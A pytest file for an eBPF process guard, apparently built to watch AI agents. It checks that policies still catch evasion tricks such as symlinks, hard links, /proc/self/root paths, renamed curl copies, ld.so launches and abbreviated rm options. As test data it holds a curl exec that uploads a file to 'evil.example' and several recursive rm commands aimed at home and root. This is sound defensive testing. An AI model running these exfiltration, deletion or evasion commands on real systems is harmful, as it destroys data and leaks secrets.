"""Issue 9: the engine judges what the kernel reached, not the strings a process passed.

Pure tests: synthesized events (with the sensor's new fields) against the bundled policies and
identities either synthesized or compiled from a temporary tree. Each case here is a way past
the rules that judged only the text a process passed."""

from __future__ import annotations

import hashlib
import os
from dataclasses import fields, replace
from pathlib import Path

import pytest

from ebpf_guard.events import NOTE_PATH_TRUNCATED, READ, WRITE, Event, Kind
from ebpf_guard.options import parse_argv
from ebpf_guard.paths import POLICY_DIR
from ebpf_guard.policy import PolicyError, load_policy, parse_policy
from ebpf_guard.policy.engine import Engine
from ebpf_guard.policy.identities import Binary, Identities, compile_identities
from ebpf_guard.verdicts import Mode, Verdict
from tests.test_engine import DEFAULT_CASES, HOME, HOMES, WS, connect, ev, exec_, open_, unlink

KEY = f"{HOME}/.ssh/id_rsa"
CURL_SHA = "ab" * 32
CURL = Binary("curl", "/usr/bin/curl", 2049, 777, CURL_SHA)
RM = Binary("rm", "/usr/bin/rm", 2049, 555, "cd" * 32)
IDS = Identities(
    files={(2049, 4242): KEY, (2049, 4343): f"{HOME}/.bashrc"},
    binaries={(2049, 777): (CURL,), (2049, 555): (RM,)},
    hashes={CURL_SHA: (CURL,), RM.sha256: (RM,)},
    tools={"curl": frozenset({(2049, 777)}), "rm": frozenset({(2049, 555)})},
)


def engine(name: str = "default", ids: Identities | None = IDS, mode: Mode | None = None,
           text: str | None = None, home_of=HOMES.get) -> Engine:  # fmt: skip
    if text is not None:
        policy = parse_policy(text)
    else:
        policy = load_policy(POLICY_DIR / f"{name}.yaml", identities=False)
    return Engine(policy, workspace=WS, home_of=home_of, mode=mode, identities=ids)


def judge(event: Event, name: str = "default", **kw) -> tuple[str, str]:
    d = engine(name, **kw).evaluate(event)
    return d.verdict.value, d.rule


def rename(src: str, dst: str, **kw) -> Event:
    return ev("rename", raw_path=src, path=src, dest_raw_path=dst, dest_path=dst, **kw)


def link(src: str, dst: str, **kw) -> Event:
    return ev("link", raw_path=src, path=src, dest_raw_path=dst, dest_path=dst, **kw)


def symlink(target: str, at: str, **kw) -> Event:
    return ev("symlink", raw_path=target, dest_raw_path=at, dest_path=at, **kw)


# ---------------------------------------------------------------- symlinks, /proc, long paths


def test_symlink_is_judged_by_what_the_kernel_reached() -> None:
    innocent = f"{WS}/notes.txt"
    assert judge(open_(innocent)) == ("SAFE", "")
    d = engine().evaluate(open_(innocent, real_path=KEY))
    assert (d.verdict, d.rule) == (Verdict.KILL, "ssh-keys")
    assert d.value == KEY and "kernel-resolved; requested" in d.reason
    # A write through a workspace symlink to ~/.bashrc
    assert judge(open_(f"{WS}/b", WRITE, real_path=f"{HOME}/.bashrc")) == (
        "KILL", "agent-config-write")  # fmt: skip
    # Unlink rules see real_path too.
    assert judge(unlink(f"{WS}/k", real_path=f"{HOME}/.ssh/authorized_keys")) == (
        "KILL", "ssh-keys-delete")  # fmt: skip


def test_proc_self_root_path() -> None:
    raw = f"/proc/self/root{KEY}"
    assert judge(open_(raw, real_path=KEY)) == ("KILL", "ssh-keys")
    # Even without the kernel's answer (old sensor, no BTF): /proc/PID/root is read through.
    assert judge(open_(raw)) == ("KILL", "ssh-keys")
    # It was "harmless" as a /proc/self/** write before.
    assert judge(open_(f"/proc/self/root{HOME}/.bashrc", WRITE)) == ("KILL", "agent-config-write")
    assert judge(open_(f"/proc/123/task/123/root{HOME}/.bashrc", WRITE)) == (
        "KILL", "agent-config-write")  # fmt: skip


def test_proc_pid_real_paths_are_the_process_itself() -> None:
    # /proc/self/... resolves in the kernel to /proc/<tgid>/...: still "itself", still harmless.
    d = open_("/proc/self/attr/current", WRITE, pid=321, real_path="/proc/321/attr/current")
    assert judge(d) == ("SAFE", "")
    d = open_("/proc/thread-self/comm", WRITE, pid=321, tid=322,
              real_path="/proc/321/task/322/comm")  # fmt: skip
    assert judge(d) == ("SAFE", "")
    # Another process's /proc entry is not.
    assert judge(open_("/proc/self/x", WRITE, pid=321, real_path="/proc/1/x")) == (
        "HALT", "write-outside-workspace")  # fmt: skip
    # Pipes and sockets have no file path: nothing more to judge.
    assert judge(open_("/dev/fd/63", WRITE, real_path="pipe:[1234]")) == ("SAFE", "")


def test_path_past_the_kernel_buffer() -> None:
    # `/tmp/././.../../home/dev/.bashrc`: the first 255 bytes say /tmp; the kernel reached ~.
    raw = "/tmp/" + "./" * 200 + f"..{HOME}/.bashrc"
    cut = raw[:255]
    truncated = open_(cut, WRITE, raw_path=cut, notes=(NOTE_PATH_TRUNCATED,))
    assert judge(replace(truncated, real_path=f"{HOME}/.bashrc")) == ("KILL", "agent-config-write")
    # Without the kernel's answer a truncated path is never harmless.
    assert judge(truncated) == ("HALT", "write-outside-workspace")
    # The same text, not truncated, is what it always was.
    assert judge(open_("/tmp/x", WRITE)) == ("SAFE", "")


def test_workspace_reached_through_a_symlink_stays_the_workspace() -> None:
    ids = replace(IDS, aliases={WS: ("/data/project",), HOME: ("/data/home/dev",)})
    assert judge(open_(f"{WS}/a.py", WRITE, real_path="/data/project/a.py"), ids=ids) == ("SAFE", "")
    assert judge(open_(f"{WS}/k", real_path="/data/home/dev/.ssh/id_rsa"), ids=ids) == (
        "KILL", "ssh-keys")  # fmt: skip
    # Without the alias the real path is outside the workspace: the worse reading wins.
    assert judge(open_(f"{WS}/a.py", WRITE, real_path="/data/project/a.py")) == (
        "HALT", "write-outside-workspace")  # fmt: skip


# ---------------------------------------------------------------- inodes


def test_hard_link_to_a_protected_file_matches_by_inode() -> None:
    hard = open_("/tmp/innocent", dev=2049, ino=4242)
    d = engine().evaluate(hard)
    assert (d.verdict, d.rule, d.value) == (Verdict.KILL, "ssh-keys", KEY)
    assert "same file (inode) as /tmp/innocent" in d.reason
    assert judge(open_("/tmp/b", WRITE, dev=2049, ino=4343)) == ("KILL", "agent-config-write")
    # A read of the hard-linked .bashrc is a read, as of .bashrc itself.
    assert judge(open_("/tmp/b", READ, dev=2049, ino=4343)) == ("SAFE", "")
    # Another device, or no inode known: nothing to say.
    assert judge(open_("/tmp/innocent", dev=2050, ino=4242)) == ("SAFE", "")
    assert judge(open_("/tmp/innocent", ino=0)) == ("SAFE", "")


def test_protected_inodes_are_compiled_from_the_filesystem(tmp_path: Path) -> None:
    home = tmp_path / "home"
    (home / ".ssh" / "sub").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text("key")
    (home / ".ssh" / "sub" / "cfg").write_text("x")
    (home / ".bashrc").write_text("rc")
    os.link(home / ".ssh" / "id_rsa", tmp_path / "innocent")
    policy = load_policy(POLICY_DIR / "default.yaml", identities=False)
    ids = compile_identities(policy, workspace=WS, homes=[str(home)], path_dirs=[])
    key = os.stat(home / ".ssh" / "id_rsa")
    assert ids.file(key.st_dev, key.st_ino) == f"{home}/.ssh/id_rsa"
    sub = os.stat(home / ".ssh" / "sub" / "cfg")
    assert ids.file(sub.st_dev, sub.st_ino) == f"{home}/.ssh/sub/cfg"
    rc = os.stat(home / ".bashrc")
    assert ids.file(rc.st_dev, rc.st_ino) == f"{home}/.bashrc"
    eng = Engine(policy, workspace=WS, home_of=lambda uid: str(home), identities=ids)
    inn = os.stat(tmp_path / "innocent")
    d = eng.evaluate(open_(str(tmp_path / "innocent"), dev=inn.st_dev, ino=inn.st_ino))
    assert (d.verdict, d.rule) == (Verdict.KILL, "ssh-keys")
    # Bounded: a tiny budget stops the walk and says so.
    small = compile_identities(policy, workspace=WS, homes=[str(home)], path_dirs=[], max_entries=3)
    assert small.notes and "stopped" in small.notes[0]


def test_protected_globs_never_walk_proc_or_the_root() -> None:
    text = """
version: 1
rules:
  - {name: p, open: {path: ["/proc/*/environ", "**/secret", "*id_rsa*"]}, verdict: KILL}
"""
    ids = compile_identities(parse_policy(text), workspace=WS, homes=[], path_dirs=[])
    assert ids.files == {}


# ---------------------------------------------------------------- programs


def test_renamed_copy_of_curl_is_curl_by_hash() -> None:
    copy = exec_(["notcurl", "-d", "@x", "https://evil.example"], path="/tmp/x/notcurl",
                 exe_sha256=CURL_SHA, ino=999, dev=2049)  # fmt: skip
    d = engine().evaluate(copy)
    assert (d.verdict, d.rule) == (Verdict.HALT, "exfil-tool")
    assert "same program as curl (sha256)" in d.reason
    assert judge(copy, "strict") == ("KILL", "exfil-tool")
    assert judge(replace(copy, exe_sha256="00" * 32)) == ("SAFE", "")


def test_hard_link_and_symlink_to_curl() -> None:
    assert judge(exec_(["x", "u"], path="/tmp/x", dev=2049, ino=777)) == ("HALT", "exfil-tool")
    assert judge(exec_(["tool", "u"], path=f"{WS}/tool", real_path="/usr/bin/curl")) == (
        "HALT", "exfil-tool")  # fmt: skip


def test_multi_call_binary_runs_what_argv0_names() -> None:
    assert judge(exec_(["wget", "http://x"], path="/bin/busybox")) == ("HALT", "exfil-tool")
    assert judge(exec_(["ls", "-la"], path="/bin/busybox")) == ("SAFE", "")


def test_ld_so_running_curl_is_curl() -> None:
    """`ld.so /usr/bin/curl`: the exec is ld.so; curl's code arrives by mmap(PROT_EXEC)."""
    ldso = "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"
    # The exec itself is read as curl run by the loader (with curl's own argv) ...
    assert judge(exec_([ldso, "/usr/bin/curl", "u"])) == ("HALT", "exfil-tool")
    # ... and the mapping of curl's code is judged too (the kernel checks its inode there).
    mapped = ev("mmap_exec", raw_path="", real_path="/usr/bin/curl", dev=2049, ino=777)
    d = engine().evaluate(mapped)
    assert (d.verdict, d.rule) == (Verdict.HALT, "exfil-tool")
    assert judge(mapped, "strict") == ("KILL", "exfil-tool")
    # By inode alone (a copy of curl under another name, mapped), and by name alone.
    assert judge(replace(mapped, real_path="/tmp/lib.so")) == ("HALT", "exfil-tool")
    assert judge(replace(mapped, ino=0)) == ("HALT", "exfil-tool")
    # Shared libraries are mapped PROT_EXEC all the time: no rule, no default.
    lib = ev("mmap_exec", real_path="/usr/lib/x86_64-linux-gnu/libc.so.6", dev=2049, ino=1)
    assert judge(lib) == ("SAFE", "")
    assert engine(text="version: 1\ndefault: HALT\nrules: []\n").evaluate(lib).verdict is Verdict.SAFE
    # Argument rules cannot match a mapping (rm -r needs an argv): no false KILL.
    assert judge(ev("mmap_exec", real_path="/usr/bin/rm", dev=2049, ino=555)) == ("SAFE", "")


def test_in_kernel_kill_of_a_mapping_is_reported_as_enforced() -> None:
    mapped = ev("mmap_exec", real_path="/tmp/c", dev=2049, ino=777, notes=("killed_in_kernel",))
    d = engine("strict").evaluate(mapped)
    assert (d.verdict, d.enforced_in_kernel) == (Verdict.KILL, True)


def test_tool_identities_are_compiled_from_path(tmp_path: Path) -> None:
    bindir = tmp_path / "bin"
    bindir.mkdir()
    (bindir / "curl").write_bytes(b"\x7fELF curl")
    (bindir / "busybox").write_bytes(b"\x7fELF busybox")
    (bindir / "wget").symlink_to("busybox")  # a multi-call binary says nothing by itself
    policy = load_policy(POLICY_DIR / "strict.yaml", identities=False)
    ids = compile_identities(policy, workspace=WS, homes=[], path_dirs=[str(bindir)])
    st = os.stat(bindir / "curl")
    sha = hashlib.sha256(b"\x7fELF curl").hexdigest()
    assert ids.tools["curl"] == {(st.st_dev, st.st_ino)}
    (b,) = ids.programs(st.st_dev, st.st_ino, "")
    assert (b.tool, b.path, b.sha256) == ("curl", str(bindir / "curl"), sha)
    assert ids.programs(0, 0, sha) == (b,)
    assert "wget" not in ids.tools and any("multi-call" in n for n in ids.notes)
    eng = Engine(policy, workspace=WS, home_of=HOMES.get, identities=ids)
    assert eng.kernel_exec_inodes() == (frozenset({(st.st_dev, st.st_ino)}), frozenset())
    d = eng.evaluate(exec_(["cp-of-it", "x"], path="/tmp/cp-of-it", exe_sha256=sha))
    assert (d.verdict, d.rule) == (Verdict.KILL, "exfil-tool")


def test_kernel_exec_inodes() -> None:
    kill, hold = engine("strict").kernel_exec_inodes()
    assert kill == {(2049, 777)}  # exfil-tool is KILL in strict
    assert hold == {(2049, 555)}  # recursive-rm: KILL only with its argv: held until decided
    kill, hold = engine().kernel_exec_inodes()
    assert kill == frozenset() and hold == {(2049, 777), (2049, 555)}
    assert engine(mode=Mode.AUDIT).kernel_exec_inodes() == (frozenset(), frozenset())
    eng = engine("strict")
    d = eng.evaluate(exec_(["curl", "x"]))
    eng.remember(d, allow=True)
    assert eng.kernel_exec_inodes()[0] == frozenset()
    assert engine(ids=None).kernel_exec_inodes() == (frozenset(), frozenset())


# ---------------------------------------------------------------- rename, link, symlink, truncate


def test_mv_over_a_protected_file() -> None:
    assert judge(rename(f"{WS}/evil", f"{HOME}/.bashrc")) == ("KILL", "agent-config-write")
    assert judge(rename("/tmp/x", "/etc/sudoers")) == ("KILL", "deny-write")
    # mv of a protected file away destroys it at its name.
    assert judge(rename(KEY, "/tmp/k")) == ("KILL", "ssh-keys-delete")
    # The destination judged by what the kernel reached.
    assert judge(rename(f"{WS}/a", f"{WS}/link/x", dest_real_path=f"{HOME}/.zshrc")) == (
        "KILL", "agent-config-write")  # fmt: skip
    assert judge(rename(f"{WS}/a", f"{WS}/b")) == ("SAFE", "")
    assert judge(rename(f"{WS}/a", f"{HOME}/a")) == ("HALT", "write-outside-workspace")


def test_rename_exchange_swaps_both_names() -> None:
    swap = rename(f"{WS}/evil", f"{HOME}/.bashrc", flags=0x2)  # renameat2(RENAME_EXCHANGE)
    assert judge(swap) == ("KILL", "agent-config-write")
    assert judge(rename(KEY, "/tmp/k", flags=0x2)) == ("KILL", "ssh-keys-delete")
    assert judge(rename("/tmp/k", KEY, flags=0x2)) == ("KILL", "ssh-keys-delete")
    assert judge(rename("/tmp/k", KEY)) == ("KILL", "ssh-keys")  # plain mv over the key


def test_renames_are_no_deletion_burst() -> None:
    eng = engine()
    out = [eng.evaluate(rename(f"{WS}/t{i}", f"{WS}/f{i}", t=i * 0.1)).verdict for i in range(6)]
    assert set(out) == {Verdict.SAFE}


def test_truncate_of_a_protected_file() -> None:
    assert judge(ev("truncate", raw_path="/etc/passwd", path="/etc/passwd")) == ("KILL", "deny-write")
    # ftruncate(fd): no path text, the kernel's answer only.
    assert judge(ev("truncate", real_path=f"{HOME}/.profile")) == ("KILL", "agent-config-write")
    assert judge(ev("truncate", real_path="/tmp/x", dev=2049, ino=4343)) == (
        "KILL", "agent-config-write")  # fmt: skip
    assert judge(ev("truncate", raw_path=f"{WS}/a", path=f"{WS}/a")) == ("SAFE", "")
    assert judge(ev("truncate", raw_path="/etc/hosts", path="/etc/hosts")) == (
        "HALT", "write-outside-workspace")  # fmt: skip


def test_hard_link_calls() -> None:
    assert judge(link(KEY, "/tmp/k")) == ("KILL", "ssh-keys")  # the new name reaches the key
    assert judge(link("/tmp/k2", "/tmp/k", dev=2049, ino=4242)) == ("KILL", "ssh-keys")
    assert judge(link("/tmp/evil", f"{HOME}/.bashrc")) == ("KILL", "agent-config-write")
    assert judge(link(f"{WS}/a", f"{WS}/b")) == ("SAFE", "")


def test_symlink_to_a_protected_path() -> None:
    assert judge(symlink(KEY, f"{WS}/k")) == ("KILL", "ssh-keys")  # judged as a read of it
    assert judge(symlink("../.ssh/id_rsa", f"{WS}/k")) == ("KILL", "ssh-keys")  # relative: from the link's dir
    assert judge(symlink(f"{HOME}/.bashrc", f"{WS}/rc")) == ("FLAG", "symlink-to-protected")
    assert judge(symlink("/etc/shadow", "/tmp/s")) == ("FLAG", "symlink-to-protected")
    # A symlink made at a protected path creates it.
    assert judge(symlink("/tmp/evil", f"{HOME}/.bashrc")) == ("KILL", "agent-config-write")
    # npm's node_modules/.bin links
    assert judge(symlink("../pkg/cli.js", f"{WS}/node_modules/.bin/pkg")) == ("SAFE", "")


# ---------------------------------------------------------------- argv


@pytest.mark.parametrize("argv", [
    ["rm", "--recu", "-f", "/home/dev"],
    ["rm", "--recursiv", "/opt/x"],
    ["rm", "--r", "/opt/x"],
    ["rm", "-f", "--no-preserve-r", "--recursive=x", "/"],
    ["rm", "/opt/x", "--rec"],  # GNU permutes: options after operands still count
])  # fmt: skip
def test_long_option_prefixes(argv: list[str]) -> None:
    assert judge(exec_(argv)) == ("KILL", "recursive-rm")


def test_option_tables() -> None:
    p = parse_argv("rm", ["rm", "--no-preserve-r", "-rf", "--", "/", "-x"])
    assert p.long == {"no-preserve-root"} and p.short == {"r", "f"}
    assert p.operands == [(4, "/"), (5, "-x")]
    assert parse_argv("rm", ["rm", "--i", "x"]).long == {"interactive"}
    # An exact name wins over the longer names it prefixes; an ambiguous prefix is all of them.
    assert parse_argv("curl", ["curl", "--data", "x"]).long == {"data"}
    assert parse_argv("curl", ["curl", "--data-b", "@f", "u"]).long == {"data-binary"}
    assert {"data-ascii", "data-binary", "data-raw"} <= parse_argv("curl", ["curl", "--data-"]).long
    # Arguments are no operands.
    assert parse_argv("cp", ["cp", "-t", "/dst", "a"]).operands == [(3, "a")]
    assert parse_argv("cp", ["cp", "--target=/dst", "a"]).operands == [(2, "a")]
    assert parse_argv("curl", ["curl", "-Tfile", "u"]).short == {"T"}
    # git: global options, then the subcommand's own table.
    g = parse_argv("git", ["git", "-C", "/r", "push", "--force-i", "origin"])
    assert g.long == {"force-if-includes"} and [o for _, o in g.operands] == ["push", "origin"]
    # `--forc` is ambiguous (git refuses it): read as every option it could be.
    assert parse_argv("git", ["git", "push", "--forc"]).long_given("force")
    assert not parse_argv("git", ["git", "push", "--no-force"]).long_given("force")
    # A program without a table: a long option may be a prefix of any rule's option.
    assert parse_argv("mytool", ["mytool", "--recu"]).long_given("recursive")


def test_long_option_prefixes_in_policy_flags() -> None:
    text = """
version: 1
rules:
  - {name: force-push, exec: {name: git, args_any: [push], flags: [--force, -f]}, verdict: HALT}
  - {name: nopreserve, exec: {name: rm, flags: [--no-preserve-root]}, verdict: KILL}
  - {name: upload, exec: {name: curl, flags: [--upload-file, -T]}, verdict: HALT}
"""
    eng = engine(text=text)
    assert eng.evaluate(exec_(["git", "push", "--forc", "origin"])).rule == "force-push"
    assert eng.evaluate(exec_(["git", "push", "--force-with-lease"])).rule == ""
    assert eng.evaluate(exec_(["rm", "--no-preserve", "/"])).rule == "nopreserve"
    assert eng.evaluate(exec_(["curl", "--upload", "f", "u"])).rule == "upload"
    assert eng.evaluate(exec_(["curl", "-Tf", "u"])).rule == "upload"
    # The identity's table applies to a renamed copy too.
    assert eng.evaluate(exec_(["x", "--no-pre", "/"], path="/tmp/x", ino=555, dev=2049)).rule == (
        "nopreserve")  # fmt: skip


def test_symlinked_rm_operand_is_judged_by_its_target() -> None:
    argv = ["rm", "-rf", "/tmp/x"]
    assert judge(exec_(argv)) == ("SAFE", "")
    assert judge(exec_(argv, real_args=("", "", "/tmp/x"))) == ("SAFE", "")
    assert judge(exec_(argv, real_args=("", "", HOME))) == ("KILL", "recursive-rm")
    # Unresolvable (the sensor could not say) or cut: never harmless.
    assert judge(exec_(argv, real_args=("", "", ""))) == ("KILL", "recursive-rm")
    assert judge(exec_(argv, real_args=("", "", "…/dev/x"))) == ("KILL", "recursive-rm")
    # `..` through a symlinked directory: the sensor resolved it, the text did not.
    assert judge(exec_(["rm", "-r", "/tmp/l/../.."], real_args=("", "", "/home"))) == (
        "KILL", "recursive-rm")  # fmt: skip
    # A real_args of another length is no answer: lexical only.
    assert judge(exec_(argv, real_args=("", HOME))) == ("SAFE", "")
    # Relative operands: real_args answer for the cwd too.
    assert judge(exec_(["rm", "-rf", "b"], cwd="/tmp/w", real_args=("", "", "/tmp/w/b"))) == (
        "SAFE", "")  # fmt: skip


def test_truncated_argv_is_never_harmless() -> None:
    """The sensor keeps 16 arguments: `rm -rf /tmp/1 ... /tmp/15 $HOME` hides $HOME."""
    argv = ["rm", "-rf", *(f"/tmp/{i}" for i in range(14))]
    assert judge(exec_(argv)) == ("SAFE", "")
    assert judge(exec_(argv, argv_truncated=True)) == ("KILL", "recursive-rm")


# ---------------------------------------------------------------- cut paths


def test_cut_path_is_never_scratch_or_harmless() -> None:
    eng = engine()
    cut = dict(real_path="…/objects/tmp_obj_1", path_cut=True)
    out = [eng.evaluate(unlink("/tmp/x", t=i, **cut)).verdict for i in range(3)]
    assert out == [Verdict.SAFE, Verdict.SAFE, Verdict.HALT]
    # Without the cut, /tmp is scratch.
    eng = engine()
    assert {eng.evaluate(unlink("/tmp/x", t=i)).verdict for i in range(3)} == {Verdict.SAFE}
    assert judge(open_("/tmp/x", WRITE, **cut)) == ("HALT", "write-outside-workspace")
    # The tail's last component is real: a key file name still matches.
    assert judge(open_("/tmp/x", real_path="…/keys/old_id_rsa", path_cut=True)) == ("KILL", "ssh-keys")


# ---------------------------------------------------------------- new kinds


def test_sendto_and_tcp_fast_open_are_connects() -> None:
    eng = engine("strict")
    eng.set_host_addresses({"api.anthropic.com": ["160.79.104.10"]})
    tfo = connect("93.184.216.34", 443, via="sendto", flags=0x20000000)
    assert (eng.evaluate(tfo).verdict, eng.evaluate(tfo).rule) == (Verdict.ASK, "unknown-network")
    assert eng.evaluate(connect("93.184.216.34", 443, via="sendmsg")).rule == "unknown-network"
    assert eng.evaluate(connect("160.79.104.10", 443, via="sendto")).rule == "known-apis"
    assert eng.evaluate(connect("10.0.0.2", 53, via="sendto")).rule == "unknown-network"  # not a resolver
    eng = engine("strict")
    d = eng.evaluate(connect("/var/run/docker.sock", 0, family="unix", via="sendmsg"))
    assert d.rule == "container-socket"
    # network-burst counts them like connects.
    eng = engine()
    out = [eng.evaluate(connect("10.0.0.9", 443, i * 0.5, via="sendto")).rule for i in range(50)]
    assert out[-1] == "network-burst"


def test_io_uring_halts() -> None:
    ring = ev("io_uring", exe="/usr/bin/python3.11")
    d = engine().evaluate(ring)
    assert (d.verdict, d.rule) == (Verdict.HALT, "io-uring")
    assert engine(mode=Mode.CONFIRM).evaluate(ring).verdict is Verdict.ASK
    assert engine("audit-only").evaluate(ring).verdict is Verdict.HALT  # decided, not enforced


def test_ptrace_flags() -> None:
    trace = ev("ptrace", target_pid=200, flags=0x4206, exe="/usr/bin/gdb")
    assert judge(trace) == ("FLAG", "ptrace")
    assert judge(trace, "strict") == ("HALT", "ptrace")
    text = """
version: 1
rules:
  - {name: debuggers, ptrace: {name: [gdb, strace]}, verdict: SAFE}
  - {name: other-ptrace, ptrace: any, verdict: HALT}
"""
    eng = engine(text=text)
    assert (eng.evaluate(trace).verdict, eng.evaluate(trace).rule) == (Verdict.SAFE, "debuggers")
    # An unknown executable is not gdb; comm is not trusted (a process sets its own).
    assert eng.evaluate(replace(trace, exe="", comm="gdb")).rule == "other-ptrace"


def test_new_kinds_policy_syntax() -> None:
    text = """
version: 1
workspace: /w
rules:
  - {name: r, rename: {path: /w/locked/**}, verdict: HALT}
  - {name: l, link: {path_not: [/w/**]}, verdict: FLAG}
  - {name: s, symlink: {path: /etc/**}, verdict: FLAG}
  - {name: t, truncate: {path: /w/db/*}, verdict: ASK}
  - {name: m, mmap_exec: {name: "*.so.*", path_not: [/usr/lib/**]}, verdict: FLAG}
  - {name: u, io_uring: {path_not: [/usr/bin/postgres]}, verdict: HALT}
"""
    policy = parse_policy(text)
    kinds = {r.name: r.kind for r in policy.rules}
    assert kinds == {"r": Kind.RENAME, "l": Kind.LINK, "s": Kind.SYMLINK, "t": Kind.TRUNCATE,
                     "m": Kind.MMAP_EXEC, "u": Kind.IO_URING}  # fmt: skip
    eng = Engine(policy, workspace="", home_of=HOMES.get, identities=IDS)
    assert eng.evaluate(rename("/w/locked/a", "/w/b")).rule == "r"
    assert eng.evaluate(rename("/w/b", "/w/locked/a")).rule == "r"  # either name
    assert eng.evaluate(link("/w/a", "/home/x")).rule == "l"
    assert eng.evaluate(link("/w/a", "/w/b")).rule == ""
    assert eng.evaluate(symlink("/etc/hosts", "/w/h")).rule == "s"
    d = eng.evaluate(ev("truncate", raw_path="/w/db/x", path="/w/db/x"))
    assert (d.verdict, d.rule) == (Verdict.ASK, "t")
    assert eng.evaluate(ev("mmap_exec", real_path="/tmp/evil.so.1")).rule == "m"
    assert eng.evaluate(ev("mmap_exec", real_path="/usr/lib/libc.so.6")).rule == ""
    assert eng.evaluate(ev("io_uring", exe="/usr/bin/postgres")).rule == ""
    assert eng.evaluate(ev("io_uring", exe="/tmp/x")).rule == "u"
    with pytest.raises(PolicyError, match=r"rules\[0\].rename.access: unknown key 'access'"):
        parse_policy("version: 1\nrules:\n  - {name: x, rename: {access: [read]}, verdict: HALT}\n")


def test_on_loss() -> None:
    assert parse_policy("version: 1\n").on_loss == "freeze"
    assert load_policy(POLICY_DIR / "default.yaml", identities=False).on_loss == "freeze"
    assert parse_policy("version: 1\non_loss: IGNORE\n").on_loss == "ignore"
    with pytest.raises(PolicyError) as e:
        parse_policy("version: 1\non_loss: drop\n", "p.yaml")
    assert str(e.value) == "p.yaml:2: on_loss: expected freeze or ignore, got 'drop'"
    with pytest.raises(PolicyError, match="on_loss: expected a single value"):
        parse_policy("version: 1\non_loss: [freeze]\n", "p.yaml")


# ---------------------------------------------------------------- old recordings

_NEW_FIELDS = {"real_path", "path_cut", "dev", "ino", "dest_raw_path", "dest_path",
               "dest_real_path", "exe", "exe_sha256", "real_args", "target_pid", "via"}  # fmt: skip


def test_old_recordings_are_judged_as_before() -> None:
    """Events without the new fields (an old recording, read back) have one view: the plain
    reading they always had; identities cannot apply (no inode, no hash)."""
    assert _NEW_FIELDS <= {f.name for f in fields(Event)}
    for event, verdict, rule in DEFAULT_CASES:
        old = {k: v for k, v in event.to_dict().items() if k not in _NEW_FIELDS}
        d = engine().evaluate(Event.from_dict(old))
        assert (d.verdict.value, d.rule) == (verdict, rule), d.reason
        assert " [" not in d.reason  # no other reading was needed


def test_check_says_what_identities_the_host_gives_the_rules() -> None:
    from click.testing import CliRunner

    from ebpf_guard.cli import main

    out = CliRunner().invoke(main, ["check", str(Path(__file__).resolve().parent.parent / "policies" / "default.yaml")])
    assert out.exit_code == 0, out.output
    assert "protected files by inode" in out.output and "curl (" in out.output


@pytest.mark.parametrize("argv", [
    ["/lib64/ld-linux-x86-64.so.2", "/usr/bin/rm", "-rf", "/home/dev"],
    ["/lib64/ld-linux-x86-64.so.2", "--library-path", "/tmp", "/usr/bin/rm", "--recu", "/opt/x"],
    ["ld.so", "--argv0", "x", "--", "/usr/bin/rm", "-r", "/opt/x"],
])  # fmt: skip
def test_a_program_run_by_the_dynamic_loader_is_judged_with_its_own_argv(argv: list[str]) -> None:
    """`ld.so /usr/bin/rm -rf DIR` execs the loader; rm's rule must still see rm's argv."""
    assert judge(exec_(argv)) == ("KILL", "recursive-rm")
    # The loader running a harmless program with harmless args stays harmless.
    assert judge(exec_([argv[0], "/usr/bin/ls", "-la", "/home/dev"])) == ("SAFE", "")
